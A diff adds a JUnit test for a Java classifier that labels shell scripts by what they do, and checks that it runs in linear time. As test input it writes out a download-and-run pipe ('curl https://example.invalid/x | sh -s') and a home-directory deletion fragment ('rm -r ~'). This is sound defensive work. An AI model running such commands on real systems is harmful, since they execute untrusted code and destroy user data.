@@ -1,0 +1,81 @@
+package dev.lazaret.analysis.command;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.lazaret.analysis.capability.CapabilityCatalogue;
+import java.io.IOException;
+import java.io.InputStream;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import java.util.Random;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+/**
+ * Verifies that commands are classified by what they do, as listed in {@code deeds.txt}, at their line and in linear
+ * time.
+ */
+class CommandActionsTest {
+    private static final CommandActions DEEDS =
+            new CommandActions(CapabilityCatalogue.load().known());
+
+    static List<String> cases() throws IOException {
+        try (InputStream data = CommandActionsTest.class.getResourceAsStream("deeds.txt")) {
+            return new String(data.readAllBytes(), StandardCharsets.UTF_8)
+                    .lines()
+                    .filter(line -> !line.isBlank() && !line.startsWith("#"))
+                    .toList();
+        }
+    }
+
+    @ParameterizedTest
+    @MethodSource("cases")
+    void judgesByTheDeed(String line) {
+        int blank = line.indexOf(' ');
+        String script = line.substring(blank + 1).replace("\\n", "\n");
+        assertThat(DEEDS.worst(script).map(deed -> deed.kind().word()).orElse("none"))
+                .as(script)
+                .isEqualTo(line.substring(0, blank));
+    }
+
+    @Test
+    void namesTheLineAndTheCommand() {
+        List<PlacedAction> deeds =
+                DEEDS.of("set -e\ncat <<EOF\na\nb\nEOF\necho 'x\ny'\ncurl https://example.invalid/x \\\n | sh -s\n");
+        assertThat(deeds.getFirst()).isEqualTo(new PlacedAction(CommandAction.RUNS_DOWNLOAD, 9, "sh -s"));
+    }
+
+    @Test
+    void readsAnythingInLinearWork() {
+        Random random = new Random(7);
+        String parts = "$(`\"'\\|;&<>(){}#\n ab=~/";
+        for (int i = 0; i < 2_000; i++) {
+            StringBuilder script = new StringBuilder();
+            for (int j = random.nextInt(200); j > 0; j--) {
+                script.append(parts.charAt(random.nextInt(parts.length())));
+            }
+            DEEDS.of(script.toString());
+        }
+        for (String part : List.of(
+                "$(",
+                "`",
+                "(",
+                "{ ",
+                "\"$(",
+                "a|",
+                "<<A\n",
+                "$X",
+                "X=$(",
+                "sh -c \"",
+                "'",
+                "\\",
+                "eval ",
+                "curl -xo ",
+                "rm -r ~ ",
+                "X=$X;",
+                "sh<<<a ")) {
+            assertThat(DEEDS.of(part.repeat(200_000))).hasSizeLessThan(1_000_000);
+        }
+    }
+}
